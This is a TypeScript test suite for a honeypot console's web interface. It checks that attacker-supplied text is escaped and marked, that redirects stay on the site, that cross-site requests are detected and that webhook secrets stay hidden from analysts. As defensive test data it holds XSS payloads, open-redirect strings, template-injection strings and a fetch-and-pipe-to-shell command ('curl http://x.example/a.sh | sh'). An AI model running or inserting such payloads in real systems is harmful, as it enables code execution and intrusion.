import { expect, test } from "bun:test"
import { readdirSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { AlertsPage } from "../../src/console/alerts/alertsPage.tsx"
import { DeliveryLogPage } from "../../src/console/alerts/deliveryLogPage.tsx"
import { Attacker } from "../../src/console/components.tsx"
import { EventsPage } from "../../src/console/events/eventsPage.tsx"
import { EventTable, fitEvents } from "../../src/console/eventTable.tsx"
import { isCrossSite, safeNext } from "../../src/console/http.ts"
import { IncidentPage } from "../../src/console/incidents/incidentPage.tsx"
import { IncidentTable } from "../../src/console/incidents/incidentsPage.tsx"
import { Layout, SettingsLayout } from "../../src/console/layout.tsx"
import { eventTypeSpec } from "../../src/domain/eventTypes.ts"
import type { Event } from "../../src/domain/models.ts"
import { incidentTexts } from "../../src/domain/narrative.ts"
import { splitServiceText } from "../../src/domain/serviceText.ts"
import { camelCaseKey } from "../../src/ingest/formats/native.ts"
import { IPTABLES_KV } from "../support/ingest.ts"

/** A template placeholder as text (attackers write it hoping a renderer evaluates it). */
const TEMPLATE_SYNTAX = ["$", "{x}"].join("")

const camelKeys = (o: Record<string, string>): Record<string, string> =>
  Object.fromEntries(Object.entries(o).map(([k, v]) => [camelCaseKey(k) ?? k, v]))

const CONSOLE_DIR = join(import.meta.dir, "..", "..", "src", "console")
const sources = (dir: string): Array<string> =>
  readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory()
      ? sources(join(dir, entry.name))
      : /\.(ts|tsx)$/.test(entry.name)
        ? [join(dir, entry.name)]
        : [],
  )

test("no raw-HTML escape hatch anywhere in the console's code", () => {
  const files = sources(CONSOLE_DIR)
  expect(files.length).toBeGreaterThan(5)
  for (const file of files) {
    const text = readFileSync(file, "utf8")
    expect(text).not.toMatch(/dangerouslySetInnerHTML\s*[=:{]/)
    expect(text).not.toMatch(/from "hono\/html"/)
    expect(text).not.toMatch(/\braw\(/)
    expect(text).not.toMatch(/\.innerHTML\b/)
  }
})

test("attacker text renders escaped, in text and in attributes", () => {
  const payload = `</code><script>alert(1)</script><img src=x onerror=alert(2)>"'&`
  const out = String(Attacker({ value: payload }))
  expect(out).not.toContain("<script>")
  expect(out).not.toContain("<img")
  expect(out).toContain("&lt;script&gt;")
  const page = String(
    Layout({ title: `"><script>x</script>`, section: "none", children: Attacker({ value: payload }) }),
  )
  expect(page).not.toContain("<script>x")
  expect(page).toContain("&quot;&gt;&lt;script&gt;")
})

test("a long attacker value is cut, the rest behind a <details>", () => {
  const out = String(Attacker({ value: "x".repeat(1000) }))
  expect(out).toContain("<details")
  expect(out).toContain("1000 characters")
})

test("cross-site requests are recognised by Sec-Fetch-Site and Origin", () => {
  const app = "https://console.example"
  expect(isCrossSite({ "sec-fetch-site": "cross-site" }, app)).toBe(true)
  expect(isCrossSite({ "sec-fetch-site": "same-site" }, app)).toBe(true)
  expect(isCrossSite({ "sec-fetch-site": "same-origin", origin: app, host: "console.example" }, app)).toBe(false)
  expect(isCrossSite({ origin: "https://evil.example", host: "console.example" }, app)).toBe(true)
  expect(isCrossSite({ origin: "null", host: "console.example" }, app)).toBe(true)
  expect(isCrossSite({ origin: "http://10.0.0.5:3000", host: "10.0.0.5:3000" }, app)).toBe(false)
  expect(isCrossSite({ host: "console.example" }, app)).toBe(false)
})

test("the return path after sign-in stays on this site", () => {
  expect(safeNext("/incidents/inc_01ARZ3NDEKTSV4RRFFQ69G5FAV")).toBe("/incidents/inc_01ARZ3NDEKTSV4RRFFQ69G5FAV")
  expect(safeNext("//evil.example/x")).toBe("/")
  expect(safeNext("/\\evil.example")).toBe("/")
  expect(safeNext("https://evil.example")).toBe("/")
  expect(safeNext(undefined)).toBe("/")
})

// --- Attacker text everywhere, bounded pages, readable event types, channel URLs ------------------------------------

const viewer = (role: "admin" | "analyst") => ({ email: "soc@acme.example", role, csrfToken: "t".repeat(43) })
const NOW = new Date("2026-11-26T12:00:00Z")
const SENSOR = { id: "sen_01ARZ3NDEKTSV4RRFFQ69G5FAV", name: "dmz-web-01" }
const HOOK = "https://hooks.example.com/services/T0AAA/B0BBB/s3cr3tPathToken?token=q5ecretQuery"

let eventNo = 0
const event = (type: string, attackerInput: Record<string, unknown>, port = 22): Event => {
  const spec = eventTypeSpec(type)
  if (spec === undefined) throw new Error(`unknown type ${type}`)
  const username = typeof attackerInput.username === "string" ? attackerInput.username : undefined
  const detail = ["command", "path", "url"].map((k) => attackerInput[k]).find((v) => typeof v === "string")
  return {
    id: `evt_01ARZ3NDEKTSV4RRFFQ69G${String(eventNo++).padStart(4, "0")}`,
    time: new Date(NOW.getTime() - 60_000),
    sensor: SENSOR,
    sourceIp: "203.0.113.7",
    sourcePort: 50123,
    service: spec.service,
    port,
    type,
    action: spec.action,
    severity: spec.severity,
    confidence: spec.confidence,
    tags: [],
    techniques: [],
    summary: spec.summary({
      sourceIp: "203.0.113.7",
      port,
      service: spec.service,
      username,
      detail: detail as string | undefined,
    }),
    attackerInput: attackerInput as Event["attackerInput"],
  }
}

const incident = (events: ReadonlyArray<Event>, usernames: ReadonlyArray<string>, eventCount = events.length) => {
  const types = [...new Set(events.map((e) => e.type))]
  const texts = incidentTexts({
    eventTypes: types,
    sensorName: SENSOR.name,
    sourceIp: "203.0.113.7",
    eventCount,
    usernames,
  })
  return {
    id: "inc_01ARZ3NDEKTSV4RRFFQ69G5FAV",
    ...texts,
    severity: "high" as const,
    status: "open" as const,
    sensor: SENSOR,
    sourceIp: "203.0.113.7",
    source: {
      scope: "external" as const,
      network: null,
      reverseDns: null,
      asn: null,
      asOrganization: null,
      country: null,
    },
    eventCount,
    eventTypes: types,
    highConfidence: false,
    baitCredentialUsed: false,
    otherSensors: 0,
    firstSeenAt: NOW,
    lastSeenAt: NOW,
    resolvedAt: null,
    closeReason: null,
    assignee: null,
    acknowledgedAt: null,
    url: "https://console.test/incidents/inc_01ARZ3NDEKTSV4RRFFQ69G5FAV",
    techniques: [],
    events,
  }
}

/** The texts of every element marked as attacker text. */
const marked = (html: string): Array<string> =>
  [...html.matchAll(/<code class="atk"[^>]*>([^<]*)<\/code>/g)].map((m) => (m[1] ?? "").replaceAll("&quot;", '"'))

test("attacker text the service quotes (titles, narrative, summaries) is marked like attacker-input values", () => {
  const posing = "Incident resolved: no action needed"
  const events = [
    event("ssh.login_attempt", { username: posing }),
    event("ssh.login_attempt", { username: 'ro"ot' }),
    event("ssh.command", { command: "curl http://x.example/a.sh | sh" }),
  ]
  const i = incident(events, [posing, 'ro"ot'])
  expect(i.narrative).toContain(`"${posing}"`)
  const page = String(
    IncidentPage({ viewer: viewer("admin"), incident: i, more: undefined, now: NOW, flash: undefined }),
  )
  const atk = marked(page)
  // The narrative's "Usernames tried: …" and every summary quote the attacker's text: each is boxed.
  expect(atk.filter((t) => t === posing).length).toBeGreaterThanOrEqual(3)
  expect(atk).toContain('ro"ot')
  expect(atk).toContain("curl http://x.example/a.sh | sh")
  // Nowhere unmarked: every occurrence of the posing text is inside a box.
  expect(page.split(posing).length - 1).toBe(atk.filter((t) => t.includes(posing)).length)
  // The sensor's name, which an admin chose, is not attacker text.
  expect(atk).not.toContain(SENSOR.name)
  expect(page).toContain(`on sensor &quot;${SENSOR.name}&quot;`)
  // The Events page and the incident list (overview too) mark the same way.
  const eventsPage = String(
    EventsPage({
      viewer: viewer("analyst"),
      rows: events,
      types: [],
      filters: { type: "", from: "", to: "", incidentId: "" },
      error: undefined,
      next: undefined,
      now: NOW,
    }),
  )
  expect(marked(eventsPage).filter((t) => t === posing).length).toBeGreaterThanOrEqual(2)
  const unknownType = { ...i, title: `Decoy activity from 203.0.113.7 on sensor "x" via ${JSON.stringify(posing)}` }
  expect(marked(String(IncidentTable({ rows: [unknownType], now: NOW })))).toEqual(["x", posing])
})

test("service text is split at its quotes exactly: escaped quotes stay inside, a cut quote runs to the end", () => {
  expect(splitServiceText(`a "b\\"c" d "e`)).toEqual([
    { quoted: false, text: "a " },
    { quoted: true, text: 'b"c' },
    { quoted: false, text: " d " },
    { quoted: true, text: "e" },
  ])
  expect(splitServiceText("no quotes")).toEqual([{ quoted: false, text: "no quotes" }])
})

test("a huge attacker value is cut, with a visible mark and its full length", () => {
  const out = String(Attacker({ value: "A".repeat(1_000_000) }))
  expect(out.length).toBeLessThan(5000)
  expect(out).toContain("1000000 characters")
  expect(out).toMatch(/Cut: 2000 of 1000000 characters shown/)
  // Astral characters are counted as one and never split.
  const emoji = String(Attacker({ value: "😀".repeat(3000) }))
  expect(emoji).toContain("3000 characters")
  expect(emoji).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/)
})

test("an incident whose events carry huge attacker input renders a page of bounded size", () => {
  const huge = "<A&>".repeat(1_250)
  const input = Object.fromEntries(Array.from({ length: 24 }, (_, k) => [`field${k}`, huge]))
  const events = Array.from({ length: 200 }, () => event("http.request", input, 80))
  const page = String(
    IncidentPage({
      viewer: viewer("admin"),
      incident: incident(events, [], 5000),
      more: "/x",
      now: NOW,
      flash: undefined,
    }),
  )
  expect(page.length).toBeLessThan(2_000_000)
  expect(page).toContain("4 more members not shown")
  const left = /(\d+) more events not shown/.exec(page)
  expect(Number(left?.[1])).toBeGreaterThan(4800)
  expect(page).toContain("GET /v1/events?incidentId=inc_01ARZ3NDEKTSV4RRFFQ69G5FAV")
  // The Events page stops at the same budget and goes on after the last event it showed.
  const eventsPage = String(
    EventsPage({
      viewer: viewer("admin"),
      rows: events.slice(0, 50),
      types: [],
      filters: { type: "http.request", from: "", to: "", incidentId: "" },
      error: undefined,
      next: "/events?after=x",
      now: NOW,
    }),
  )
  expect(eventsPage.length).toBeLessThan(2_000_000)
  const shown = fitEvents(events.slice(0, 50)).shown
  const last = shown[shown.length - 1]
  expect(eventsPage).toContain(`after=${last?.time.getTime()}.${last?.id}`)
  expect(eventsPage).not.toContain("/events?after=x")
})

test("a port scan reads in one line (protocol, port), its packet fields folded; attacker input in two columns", () => {
  const scan = event("portscan.syn", camelKeys({ ...IPTABLES_KV, SYN: "", DPT: "22", SPT: "40000" }), 22)
  const out = String(EventTable({ events: [scan], now: NOW }))
  expect(out).toMatch(/protocol <code class="atk"[^>]*>TCP<\/code> · port <code class="atk"[^>]*>22<\/code>/)
  expect(out).toMatch(
    /<details class="fields"><summary class="small">Packet fields \(\d+\)<\/summary><table class="kv">/,
  )
  // A login attempt: a short two-column table, shown at once, values boxed, the password masked.
  const login = event("ssh.login_attempt", {
    username: "root",
    password: { masked: "******", length: 6, fingerprint: "ab".repeat(16) },
  })
  const row = String(EventTable({ events: [login], now: NOW }))
  expect(row).not.toContain("<details")
  expect(row).toMatch(
    /<table class="kv"><tbody><tr><th scope="row"><code class="atk"[^>]*>username<\/code><\/th><td><code class="atk"[^>]*>root<\/code>/,
  )
  expect(row).toContain("masked, 6 characters")
  expect(row).toContain("SSH login attempt")
})

test("an analyst sees only a webhook URL's origin on Alerts and the delivery log; an admin sees the URL", () => {
  const channel = {
    id: "whk_01ARZ3NDEKTSV4RRFFQ69G5FAV",
    url: HOOK,
    minSeverity: "high",
    enabled: true,
    createdAt: NOW.toISOString(),
    previousSecretValidUntil: null,
  }
  for (const html of [
    String(AlertsPage({ viewer: viewer("analyst"), channels: [channel], flash: undefined, now: NOW })),
    String(DeliveryLogPage({ viewer: viewer("analyst"), channel, deliveries: [], flash: undefined, now: NOW })),
  ]) {
    expect(html).toContain("https://hooks.example.com")
    expect(html).not.toContain("s3cr3tPathToken")
    expect(html).not.toContain("q5ecretQuery")
    expect(html).not.toContain("/services/")
  }
  const admin = String(AlertsPage({ viewer: viewer("admin"), channels: [channel], flash: undefined, now: NOW }))
  expect(admin).toContain("s3cr3tPathToken")
})

// --- Readable values: counts, empty values, ports, phone-width tables, notices -------------------------------------

test("a masked secret of one character says 1 character; longer ones say characters", () => {
  const one = event("ssh.login_attempt", { username: "a", password: { masked: "*", length: 1, fingerprint: "" } })
  const six = event("ssh.login_attempt", { username: "a", password: { masked: "******", length: 6, fingerprint: "" } })
  const html = String(EventTable({ events: [one, six], now: NOW }))
  expect(html).toContain("masked, 1 character")
  expect(html).not.toContain("1 characters")
  expect(html).toContain("masked, 6 characters")
})

test("an empty attacker value shows an (empty) marker in its attacker box, not an empty box", () => {
  const scan = event("portscan.syn", camelKeys({ ...IPTABLES_KV, SYN: "", OUT: "", DPT: "22" }), 22)
  const out = String(EventTable({ events: [scan], now: NOW }))
  expect(out).toMatch(
    /<code class="atk atk-empty" title="Attacker-supplied text: empty"><em class="muted">\(empty\)<\/em><\/code>/,
  )
  expect(out).not.toMatch(/<code class="atk"[^>]*><\/code>/)
  // A value that is the text "(empty)" stays attacker text, boxed as such, not the interface's muted marker.
  const posing = String(Attacker({ value: "(empty)" }))
  expect(posing).toMatch(/<code class="atk" [^>]*>\(empty\)<\/code>/)
  expect(posing).not.toContain("<em")
})

test("a scan's port is boxed the same way on the Events page and the incident page", () => {
  // No port among the packet fields: the event's own port is shown, boxed like a port from the fields.
  const scan = event("portscan.syn", { proto: "TCP" }, 8080)
  const eventsPage = String(
    EventsPage({
      viewer: viewer("analyst"),
      rows: [scan],
      types: ["portscan.syn"],
      filters: { type: "", from: "", to: "", incidentId: "" },
      error: undefined,
      next: undefined,
      now: NOW,
    }),
  )
  const incidentPage = String(
    IncidentPage({
      viewer: viewer("analyst"),
      incident: incident([scan], []),
      more: undefined,
      flash: undefined,
      now: NOW,
    }),
  )
  const digest = /protocol <code class="atk"[^>]*>TCP<\/code> · port <code class="atk"[^>]*>8080<\/code>/
  expect(eventsPage).toMatch(digest)
  expect(incidentPage).toMatch(digest)
  // A list of ports keeps the plural.
  const many = String(EventTable({ events: [event("portscan.syn", { ports: "22,23,80" }, 22)], now: NOW }))
  expect(many).toMatch(/ports <code class="atk"[^>]*>22,23,80<\/code>/)
})

test("on a phone, the incidents table stacks: every cell carries its column's label", () => {
  const summary = { ...incident([], []), events: undefined }
  const html = String(IncidentTable({ rows: [summary], now: NOW }))
  expect(html).toContain('<table class="stacked">')
  for (const label of ["Severity", "Incident", "Source", "Sensor", "Events", "Last seen", "Status"]) {
    expect(html).toContain(`data-label="${label}"`)
  }
  const css = readFileSync(join(CONSOLE_DIR, "static", "console.css"), "utf8")
  expect(css).toContain("table.stacked td[data-label]::before")
})

test("an analyst's read-only notice is information, not a success message", () => {
  const html = String(
    SettingsLayout({ viewer: viewer("analyst"), tab: "alerts", title: "Alerts", flash: undefined, children: "" }),
  )
  expect(html).toContain("You can read these settings")
  expect(html).toMatch(/class="notice notice-info"[^>]*>\s*You can read these settings/)
  expect(html).not.toContain("notice-ok")
})

test("the source address's reverse DNS name and AS organization are boxed as attacker text, markup escaped", () => {
  const hostile = `<script>alert(1)</script>.<@U123>.<!channel>.@here.{{x}}.${TEMPLATE_SYNTAX}.evil.example`
  const html = String(
    IncidentPage({
      viewer: viewer("analyst"),
      incident: {
        ...incident([], []),
        source: {
          scope: "external",
          network: null,
          reverseDns: hostile,
          asn: 64496,
          asOrganization: '<img src=x onerror="alert(2)">',
          country: "NL",
        },
      },
      more: undefined,
      flash: undefined,
      now: NOW,
    }),
  )
  expect(html).not.toContain("<script>")
  expect(html).not.toContain("<img")
  expect(html).toContain(
    `<code class="atk" title="Attacker-supplied text">&lt;script&gt;alert(1)&lt;/script&gt;.&lt;@U123&gt;.&lt;!channel&gt;.@here.{{x}}.${TEMPLATE_SYNTAX}.evil.example</code>`,
  )
  expect(html).toMatch(
    /AS64496<\/span> <code class="atk"[^>]*>&lt;img src=x onerror=(&quot;|")alert\(2\)(&quot;|")&gt;<\/code>/,
  )
  expect(html).toContain('<dd class="mono">NL</dd>')
  // Nothing known: no line at all.
  const plain = String(
    IncidentPage({
      viewer: viewer("analyst"),
      incident: incident([], []),
      more: undefined,
      flash: undefined,
      now: NOW,
    }),
  )
  expect(plain).not.toContain("Reverse DNS")
  expect(plain).not.toContain("<dt>Network</dt>")
})
